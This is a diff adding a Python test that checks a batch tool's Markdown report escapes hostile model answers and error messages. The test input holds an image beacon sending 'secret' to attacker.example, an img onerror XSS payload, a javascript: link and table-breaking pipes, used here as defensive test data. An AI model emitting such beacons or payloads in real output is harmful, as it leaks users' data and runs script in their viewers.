@@ -10,6 +10,7 @@ from __future__ import annotations
 import io
 import json
 import os
+import re
 from pathlib import Path
 from typing import Any
 
@@ -991,3 +992,30 @@ def test_a_dataset_from_stdin_is_located_as_stdin(
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data + b"\xff\n")))
     assert cli_main([*args, "--run-dir", str(tmp_path / "run2")]) == 1
     assert "mas2c batch: <stdin>:3: not UTF-8 text" in capsys.readouterr().err
+
+
+def test_hostile_predictions_and_errors_are_plain_text_in_report_md() -> None:
+    """An LLM's answer or a program's error lands in report.md's table of failed rows: it is
+    text there, never an image that a Markdown viewer fetches (a beacon carrying what the
+    answer holds), a link, raw HTML, or a column of its own."""
+    from mas2c.batch import Row, report, summarize
+
+    hostile = (
+        "![x](https://attacker.example/p.png?d=secret) <img src=x onerror=alert(1)> "
+        "[click](javascript:alert(1)) | extra | column\n# heading `code`"
+    )
+    rows = [Row(key="r1", index=0, data={}), Row(key="r2", index=1, data={})]
+    done = {
+        "r1": {"key": "r1", "status": "ok", "passed": False, "score": 0.0,
+               "prediction": hostile, "expected": "42", "note": hostile},
+        "r2": {"key": "r2", "status": "error", "error_code": "ToolError", "passed": False,
+               "score": 0.0, "error": hostile},
+    }  # fmt: skip
+    text = report(rows, done, summarize(rows, done, {}, 1.0, [], None))
+    table = [line for line in text.splitlines() if line.startswith(("| r1 ", "| r2 "))]
+    assert len(table) == 2
+    for line in table:
+        assert len(re.split(r"(?<!\\)\|", line)) == 8, line  # six cells, no extra column
+    assert "\n# heading" not in text
+    assert not re.search(r"(?<!\\)\[", "".join(table))  # brackets escaped: no link, no image
+    assert "<img" not in text and "&lt;img" in text
